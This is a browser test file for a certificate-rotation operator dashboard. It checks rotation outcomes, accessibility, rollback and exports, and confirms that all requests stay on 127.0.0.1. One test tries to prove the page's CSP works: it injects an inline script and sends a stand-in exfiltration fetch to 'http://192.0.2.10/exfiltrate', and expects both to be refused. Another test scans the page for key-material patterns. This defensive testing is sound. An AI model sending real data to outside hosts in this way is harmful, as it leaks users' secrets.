// The operator dashboard in a real browser: Debian's chromium, driven by playwright-core, against the demo scenario
// (the sandbox's demo world, Azurite, the local Functions host, the nightly scan and its queue fan-out). What the page
// shows is checked against the demo's expected outcomes and against the API and the sandbox from the outside; every
// request the page makes is recorded and must stay on 127.0.0.1, and the page's CSP must never be violated (and is
// shown to be enforced: an injected inline script and a fetch to another origin are refused).
// Without /usr/bin/chromium the test says so and is skipped; with CI=true a missing chromium fails.
import { existsSync, mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { chromium, type BrowserContext, type Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { DEMO_SUBSCRIPTION_ID, demoScenario, startSandbox, type Sandbox } from '../../sandbox/index.js';
import type { RotationRecord } from '../../src/core/records.js';
import { CSV_COLUMNS } from '../../src/dashboard/model.js';
import { sandboxAppSettings } from '../../local/sandboxSettings.js';
import { configureServices, resetServices } from '../../src/functions/app/services.js';
import { startLocalHost, type LocalHost } from '../../src/host/index.js';
import { uniqueName, useAzurite } from '../helpers/azurite.js';

const CHROMIUM = '/usr/bin/chromium';
const available = existsSync(CHROMIUM);
const inCi = process.env.CI === 'true';
if (!available && !inCi) console.warn(`test/dashboard/browser.test.ts: ${CHROMIUM} is missing (apt-get install chromium); the browser test is skipped`);

// The committed screenshots (docs/dashboard.png, docs/dashboard-timeline.png) are rewritten only on request
// (UPDATE_DASHBOARD_SCREENSHOT=1), so a test run leaves the tree clean.
const SCREENSHOT = process.env.UPDATE_DASHBOARD_SCREENSHOT === '1' ? join(import.meta.dirname, '..', '..', 'docs', 'dashboard.png') : undefined;

const KEY = 'dashboard-browser-key';
const lines: string[] = [];
let sb: Sandbox;
let host: LocalHost;
let context: BrowserContext;
let page: Page;
let profile: string;
const requests: string[] = [];
const refused: string[] = [];
const cspReports: string[] = [];

describe.runIf(!available && inCi)('the dashboard in chromium, in CI', () => {
  it('needs Debian chromium at /usr/bin/chromium (.ci/run installs it)', () => {
    expect.fail(`${CHROMIUM} is missing with CI=true: install Debian's chromium package (apt-get install chromium)`);
  });
});

describe.skipIf(!available)('the dashboard in chromium, against the demo scenario', () => {
  // Inside the describe: a skipped browser test starts no Azurite.
  const azurite = useAzurite();
  beforeAll(async () => {
    sb = await startSandbox(demoScenario());
    configureServices({ tlsCa: sb.caPem });
    host = await startLocalHost({
      register: () => import('../../src/functions/index.js'),
      settings: sandboxAppSettings({
        armEndpoint: sb.armEndpoint,
        token: sb.token,
        subscriptionId: DEMO_SUBSCRIPTION_ID,
        storageConnectionString: azurite().connectionString,
        functionsKey: KEY,
        rotationQueue: uniqueName('dash'),
        rotationTable: uniqueName('dash'),
      }),
      localSettings: false,
      port: 0,
      log: (line) => lines.push(line),
      timers: { scheduled: false },
      queues: { visibilityTimeoutSeconds: 1, minPollingIntervalMs: 50, maxPollingIntervalMs: 250 },
    });
    // The demo's night: the scan queues the due apps, the queue trigger rotates each.
    await host.invokeTimer('nightlyScan');
    const health = (await (await fetch(`${host.apiUrl}/health`)).json()) as { lastScan: { dueApps: number } };
    await until('every queued rotation to finish', async () => {
      const records = (await api('GET', '/rotations?limit=200')).rotations as RotationRecord[];
      const done = records.filter((r) => r.outcome !== undefined);
      return done.length >= health.lastScan.dueApps && done.length === records.length ? records : undefined;
    });

    profile = mkdtempSync(join(tmpdir(), 'mtls-rotator-chromium-'));
    context = await chromium.launchPersistentContext(profile, {
      executablePath: CHROMIUM,
      headless: true,
      args: ['--headless', '--no-sandbox', '--disable-gpu', '--disable-background-networking', '--disable-quic', '--no-first-run', '--disable-component-update', '--disable-sync'],
      viewport: { width: 1280, height: 800 },
      colorScheme: 'light',
      acceptDownloads: true,
    });
    // Every request of every page: recorded, and anything not for 127.0.0.1 refused before it leaves.
    await context.route('**/*', async (route) => {
      const url = route.request().url();
      requests.push(url);
      if (isLoopback(url)) await route.continue();
      else {
        refused.push(url);
        await route.abort('blockedbyclient');
      }
    });
    await context.addInitScript(() => {
      const seen: string[] = [];
      (window as unknown as { __cspViolations: string[] }).__cspViolations = seen;
      document.addEventListener('securitypolicyviolation', (event) => seen.push(`${event.violatedDirective} ${event.blockedURI}`));
    });
    page = context.pages()[0] ?? (await context.newPage());
    page.on('console', (message) => {
      if (/Content.Security.Policy/i.test(message.text())) cspReports.push(message.text());
    });
    await page.goto(`${host.apiUrl}/dashboard?code=${KEY}`);
    await page.locator('#certificates tbody tr').first().waitFor();
  }, 240_000);

  afterAll(async () => {
    await context?.close();
    if (profile) rmSync(profile, { recursive: true, force: true });
    await host?.stop();
    resetServices();
    await sb?.stop();
  }, 60_000);

  it.each([
    ['orders is committed, verified by thumbprint', 'orders', 'committed', 'thumbprint'],
    ['its staging slot is committed', 'orders/staging', 'committed', 'thumbprint'],
    ['payments was aborted at preflight', 'payments', 'aborted', '—'],
    ['billing was rolled back', 'billing', 'rolledBack', '—'],
    ['reports (*) is committed', 'reports', 'committed', undefined],
    ['inventory, a dangling thumbprint, is repaired', 'inventory', 'committed', 'thumbprint'],
    ['catalog (ASP.NET Core health) is committed, verified on status', 'catalog', 'committed', 'status'],
    ['shipping (Spring Boot actuator) is committed, verified on status', 'shipping', 'committed', 'status'],
    ['notify (plain OK) is committed, verified on status', 'notify', 'committed', 'status'],
    ['pricing (204) is committed, verified on status', 'pricing', 'committed', 'status'],
  ])('shows every demo app with its outcome: %s', async (_sentence, app, outcome, verification) => {
    const rows = page.locator(`#certificates tbody tr[data-app="${app}"]`);
    expect(await rows.count()).toBeGreaterThan(0);
    for (const row of await rows.all()) {
      expect(await row.locator('td.outcome').innerText()).toBe(outcome);
      if (verification !== undefined) expect(await row.locator('td.verification').innerText()).toBe(verification);
    }
  });

  it('is keyboard navigable: Tab reaches the skip link first, which leads to the certificates and their filters', async () => {
    await page.evaluate(() => (document.activeElement as HTMLElement | null)?.blur());
    await page.keyboard.press('Tab');
    expect(await page.evaluate(() => document.activeElement?.textContent)).toBe('Skip to the certificates');
    await page.keyboard.press('Enter');
    await page.keyboard.press('Tab');
    expect(await page.evaluate(() => document.activeElement?.id)).toBe('filter-subscription');
    await page.keyboard.press('Tab');
    expect(await page.evaluate(() => document.activeElement?.id)).toBe('filter-resourceGroup');
  });

  it('does not list the app that never opted in', async () => {
    expect(await page.locator('#certificates tbody tr[data-app="legacy-portal"]').count()).toBe(0);
  });

  it("shows what holds billing's failed version back, as the API answers it", async () => {
    const history = await api('GET', '/rotations?app=billing');
    expect(history.nextAttempt.reason).toBe('CandidateRejected');
    expect(await page.locator('#certificates tbody tr[data-app="billing"] td.next-attempt').first().innerText()).toBe('CandidateRejected');
  });

  it('sorts by days left and colours each row by the renewal window', async () => {
    const days = await page.locator('#certificates tbody tr').evaluateAll((rows) =>
      rows.map((row) => ({ band: row.getAttribute('data-band'), days: (row.querySelector('td.days')?.textContent ?? '').match(/^-?\d+/)?.[0] })),
    );
    const known = days.filter((d) => d.days !== undefined).map((d) => Number(d.days));
    expect(known).toEqual([...known].sort((a, b) => a - b));
    for (const d of days.filter((d) => d.days !== undefined)) {
      const n = Number(d.days);
      expect(d.band, `${n} days`).toBe(n < 0 ? 'expired' : n <= 30 ? 'due' : n <= 60 ? 'soon' : 'ok');
    }
  });

  it('filters by resource group', async () => {
    const all = await page.locator('#certificates tbody tr').count();
    await page.selectOption('#filter-resourceGroup', 'rg-reports');
    const apps = await page.locator('#certificates tbody tr').evaluateAll((rows) => rows.map((r) => r.getAttribute('data-app')));
    expect(apps).toEqual(['reports']);
    await page.selectOption('#filter-resourceGroup', '');
    expect(await page.locator('#certificates tbody tr').count()).toBe(all);
  });

  it("opens a record's timeline from the keyboard: steps, probes and reason", async () => {
    const billing = ((await api('GET', '/rotations?app=billing')).rotations as RotationRecord[]).find((r) => r.outcome === 'rolledBack')!;
    await page.locator(`#timeline-${billing.id}`).focus();
    await page.keyboard.press('Enter');
    const detail = page.locator(`#detail-${billing.id}`);
    await detail.waitFor();
    expect(await page.locator(`#timeline-${billing.id}`).getAttribute('aria-expanded')).toBe('true');
    const steps = await detail.locator('ol.timeline .step').allInnerTexts();
    expect(steps).toEqual(billing.steps.map((s) => s.step));
    expect(steps).toContain('rolledBack');
    expect(await detail.locator('table.probes tbody tr').count()).toBe(billing.probes.length);
    expect(await detail.locator('table.probes tr.probe-failed').count()).toBeGreaterThan(0);
    expect(await detail.locator('dl.facts').innerText()).toContain(billing.reason!);
    if (SCREENSHOT !== undefined) {
      await page.locator(`#history tr[data-rotation="${billing.id}"]`).evaluate((row) => row.scrollIntoView({ block: 'start' }));
      await page.screenshot({ path: SCREENSHOT.replace(/\.png$/, '-timeline.png') });
      await page.evaluate(() => window.scrollTo(0, 0));
      await page.screenshot({ path: SCREENSHOT });
    }
  });

  it('runs a dry run after a confirmation and shows the plan and the API answer', async () => {
    await page.click('#dry-run');
    const dialog = page.getByRole('dialog');
    await dialog.getByRole('button', { name: 'Run the dry run' }).click();
    await page.locator('#answer-status', { hasText: 'POST /api/rotations → 200' }).waitFor();
    const answer = JSON.parse(await page.locator('#answer-body').innerText()) as { dryRun: boolean; plan: { apps: Array<{ name: string }> } };
    expect(answer.dryRun).toBe(true);
    const planned = await page.locator('#plan-table tbody tr').evaluateAll((rows) => rows.map((r) => r.getAttribute('data-app')));
    expect(planned.sort()).toEqual(answer.plan.apps.map((a) => a.name).sort());
    expect(planned).toContain('billing');
  });

  it('"rotate this app" asks, calls the API and shows its answer (catalog is up to date: nothing is queued)', async () => {
    await page.locator('#certificates tbody tr[data-app="catalog"] button.rotate').first().click();
    await page.getByRole('dialog').getByRole('button', { name: 'Rotate this app' }).click();
    await page.locator('#answer-body', { hasText: '"queued"' }).waitFor();
    expect(await page.locator('#answer-status').innerText()).toBe('POST /api/rotations → 200');
    const answer = JSON.parse(await page.locator('#answer-body').innerText()) as { queued: unknown[]; message: string };
    expect(answer.queued).toEqual([]);
    expect(answer.message).toMatch(/nothing is due/);
  });

  it('asks before acting: cancelling a rollback calls nothing', async () => {
    const before = requests.length;
    await page.locator('button.rollback').first().click();
    await page.keyboard.press('Escape');
    await page.getByRole('dialog').waitFor({ state: 'detached' });
    expect(requests.slice(before).filter((u) => u.includes('/rollback'))).toEqual([]);
  });

  it('rolls back a committed rotation through the button and shows the new record', async () => {
    const orders = ((await api('GET', '/rotations?app=orders')).rotations as RotationRecord[]).find((r) => r.outcome === 'committed' && r.rollbackOf === undefined)!;
    const committedThumbprint = orders.bindings[0]!.newThumbprint;
    const previousThumbprint = orders.bindings[0]!.oldThumbprint!;
    await page.locator(`#history tr[data-rotation="${orders.id}"] button.rollback`).click();
    const dialog = page.getByRole('dialog');
    await dialog.getByLabel('Reason (optional)').fill('dashboard test');
    await dialog.getByRole('button', { name: 'Roll back this rotation' }).click();
    await page.locator('#answer-status', { hasText: `/rollback → 200` }).waitFor({ timeout: 120_000 });
    const answer = JSON.parse(await page.locator('#answer-body').innerText()) as { outcome: string; rotationId: string };
    expect(answer.outcome).toBe('rolledBack');
    // The new record, as the API and the page show it.
    const rollback = (await api('GET', `/rotations/${answer.rotationId}`)) as RotationRecord;
    expect(rollback.rollbackOf).toBe(orders.id);
    expect(rollback.requestedBy).toEqual({ via: 'functionKey' });
    const row = page.locator(`#history tr[data-rotation="${answer.rotationId}"]`);
    await row.waitFor();
    expect(await row.innerText()).toContain(`rollback of ${orders.id}`);
    expect(await row.locator('td.outcome').innerText()).toBe('rolledBack');
    // The rotation rolled back offers no second rollback.
    expect(await page.locator(`#history tr[data-rotation="${orders.id}"] button.rollback`).count()).toBe(0);
    // And on the app itself (the sandbox, not the engine's word): orders loads its previous certificate again.
    const settings = sb.control.appSettings(orders.app);
    expect(settings.CLIENT_CERT_THUMBPRINT).toBe(previousThumbprint);
    expect(settings.CLIENT_CERT_THUMBPRINT).not.toBe(committedThumbprint);
  });

  it('exports the inventory as CSV and JSON', async () => {
    const inventory = (await api('GET', '/certificates')).certificates as Array<{ name: string }>;
    const [csv] = await Promise.all([page.waitForEvent('download'), page.click('#export-csv')]);
    const csvText = readFileSync((await csv.path())!, 'utf8');
    const csvLines = csvText.split('\r\n').filter((l) => l !== '');
    expect(csvLines[0]).toBe(CSV_COLUMNS.join(','));
    expect(csvLines).toHaveLength(inventory.length + 1);
    const [json] = await Promise.all([page.waitForEvent('download'), page.click('#export-json')]);
    const exported = JSON.parse(readFileSync((await json.path())!, 'utf8')) as { certificates: Array<{ name: string; band: string }> };
    expect(exported.certificates.map((c) => c.name).sort()).toEqual(inventory.map((c) => c.name).sort());
  });

  it('follows prefers-color-scheme and the theme toggle', async () => {
    const background = () => page.evaluate(() => getComputedStyle(document.body).backgroundColor);
    await page.emulateMedia({ colorScheme: 'light' });
    const light = await background();
    await page.emulateMedia({ colorScheme: 'dark' });
    const dark = await background();
    expect(dark).not.toBe(light);
    expect(luminance(dark)).toBeLessThan(luminance(light));
    expect(await page.getAttribute('#theme', 'aria-pressed')).toBe('true');
    await page.click('#theme');
    expect(await background()).toBe(light);
    expect(await page.getAttribute('#theme', 'aria-pressed')).toBe('false');
    await page.click('#theme');
    expect(await background()).toBe(dark);
    expect(await page.getAttribute('#theme', 'aria-pressed')).toBe('true');
  });

  it.each([
    ['1280 × 800', 1280, 800],
    ['a phone (390 × 844)', 390, 844],
  ])('is readable at %s: nothing wider than the window', async (_sentence, width, height) => {
    await page.setViewportSize({ width, height });
    if (SCREENSHOT !== undefined && width < 500) await page.screenshot({ path: SCREENSHOT.replace(/\.png$/, '-phone.png') });
    const overflow = await page.evaluate(() => document.documentElement.scrollWidth - window.innerWidth);
    expect(overflow).toBeLessThanOrEqual(0);
    // The certificates table needs no sideways scrolling of its own either.
    const tableOverflow = await page.locator('#certificates .scroll').evaluate((el) => el.scrollWidth - el.clientWidth);
    expect(tableOverflow).toBeLessThanOrEqual(0);
    // Every app name is on screen in its row, not cut off.
    const box = await page.locator('#certificates tbody tr').first().locator('strong').boundingBox();
    expect(box!.x + box!.width).toBeLessThanOrEqual(width);
    await page.setViewportSize({ width: 1280, height: 800 });
  });

  it('made no request beyond 127.0.0.1, and the CSP held', async () => {
    expect(requests.length).toBeGreaterThan(5);
    expect(requests.filter((u) => !isLoopback(u))).toEqual([]);
    expect(refused).toEqual([]);
    expect(await violations()).toEqual([]);
    expect(cspReports).toEqual([]);
  });

  it('holds no secret: no private key, certificate or PKCS#12 material anywhere in the page, answers included', async () => {
    const html = await page.content();
    expect(html).toContain('rolledBack');
    // PEM armour, or the base64 of a DER structure (a PFX or a certificate starts MII…).
    expect(html).not.toMatch(/PRIVATE KEY|BEGIN CERTIFICATE|\bMII[A-Za-z0-9+/]{60}/);
  });

  it('enforces the CSP: an injected inline script does not run and a fetch to another origin is refused before it is sent', async () => {
    await page.evaluate(() => {
      const script = document.createElement('script');
      script.textContent = 'window.__inlineRan = true';
      document.body.append(script);
    });
    const fetched = await page.evaluate(() =>
      fetch('http://192.0.2.10/exfiltrate').then(
        () => 'sent',
        () => 'refused',
      ),
    );
    expect(fetched).toBe('refused');
    expect(await page.evaluate(() => (window as unknown as { __inlineRan?: boolean }).__inlineRan)).toBeUndefined();
    await until('the two violation reports', async () => ((await violations()).length >= 2 ? true : undefined), 10_000);
    const seen = await violations();
    expect(seen.some((v) => v.startsWith('script-src'))).toBe(true);
    expect(seen.some((v) => v.startsWith('connect-src') && v.includes('192.0.2.10'))).toBe(true);
    // The CSP stopped the fetch inside the browser: it never became a request.
    expect(requests.filter((u) => u.includes('192.0.2.10'))).toEqual([]);
  });
});

async function violations(): Promise<string[]> {
  return page.evaluate(() => [...(window as unknown as { __cspViolations: string[] }).__cspViolations]);
}

function isLoopback(url: string): boolean {
  const parsed = new URL(url);
  // A download's blob: URL names the page's origin inside it.
  const target = parsed.protocol === 'blob:' ? new URL(parsed.pathname) : parsed;
  return target.hostname === '127.0.0.1';
}

function luminance(rgb: string): number {
  const [r, g, b] = (rgb.match(/\d+/g) ?? []).map(Number);
  return 0.2126 * r! + 0.7152 * g! + 0.0722 * b!;
}

async function api(method: string, path: string): Promise<any> {
  const response = await fetch(`${host.apiUrl}${path}`, { method, headers: { 'x-functions-key': KEY } });
  return response.json();
}

async function until<T>(what: string, probe: () => Promise<T | undefined>, timeoutMs = 150_000): Promise<T> {
  const deadline = Date.now() + timeoutMs;
  for (;;) {
    const value = await probe();
    if (value !== undefined) return value;
    if (Date.now() > deadline) throw new Error(`timed out waiting for ${what}\n${lines.slice(-20).join('\n')}`);
    await new Promise((r) => setTimeout(r, 250));
  }
}
